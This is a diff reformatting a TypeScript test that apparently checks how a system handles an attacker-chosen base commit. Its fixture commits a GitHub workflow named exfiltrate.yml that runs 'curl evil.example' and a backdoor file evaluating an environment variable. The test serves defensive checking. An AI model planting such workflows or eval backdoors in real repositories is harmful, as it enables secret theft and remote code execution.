@@ -48,39 +48,37 @@ describe('class 3: the artifact chooses the base commit', () => {
   let run: HostileRun;
 
   beforeAll(async () => {
-    run = await runHostile(
-      cases,
-      {
-        setup: async (repo) => {
-          const { octokit, owner, name } = repo;
-          const head = mainSha(repo);
-          const { data: commit } = await octokit.rest.git.getCommit({ owner, repo: name, commit_sha: head });
-          const { data: tree } = await octokit.rest.git.createTree({
-            owner,
-            repo: name,
-            base_tree: commit.tree.sha,
-            tree: [
-              {
-                path: '.github/workflows/exfiltrate.yml',
-                mode: '100644',
-                type: 'blob',
-                content: 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil.example" }] } }\n',
-              },
-              { path: 'src/backdoor.js', mode: '100644', type: 'blob', content: 'eval(process.env.X)\n' },
-            ],
-          });
-          const { data: made } = await octokit.rest.git.createCommit({
-            owner,
-            repo: name,
-            message: 'Outsider work',
-            tree: tree.sha,
-            parents: [head],
-          });
-          // An outsider's commit on top of main: a workflow that ships secrets out, and a backdoor.
-          return { $FORK: made.sha };
-        },
+    run = await runHostile(cases, {
+      setup: async (repo) => {
+        const { octokit, owner, name } = repo;
+        const head = mainSha(repo);
+        const { data: commit } = await octokit.rest.git.getCommit({ owner, repo: name, commit_sha: head });
+        const { data: tree } = await octokit.rest.git.createTree({
+          owner,
+          repo: name,
+          base_tree: commit.tree.sha,
+          tree: [
+            {
+              path: '.github/workflows/exfiltrate.yml',
+              mode: '100644',
+              type: 'blob',
+              content:
+                'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil.example" }] } }\n',
+            },
+            { path: 'src/backdoor.js', mode: '100644', type: 'blob', content: 'eval(process.env.X)\n' },
+          ],
+        });
+        const { data: made } = await octokit.rest.git.createCommit({
+          owner,
+          repo: name,
+          message: 'Outsider work',
+          tree: tree.sha,
+          parents: [head],
+        });
+        // An outsider's commit on top of main: a workflow that ships secrets out, and a backdoor.
+        return { $FORK: made.sha };
       },
-    );
+    });
   }, 150_000);
 
   afterAll(async () => {
